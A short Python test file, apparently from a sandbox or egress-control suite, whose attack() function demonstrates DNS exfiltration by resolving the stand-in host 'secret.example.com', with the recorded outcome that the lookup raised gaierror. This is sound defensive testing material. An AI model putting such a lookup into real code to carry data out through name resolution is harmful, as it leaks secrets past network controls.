"""Asks for the address of a name, which carries text out."""
# ruff: noqa
# outcome: Raised gaierror

import socket


def attack():
    return str(socket.getaddrinfo("secret.example.com", 80))
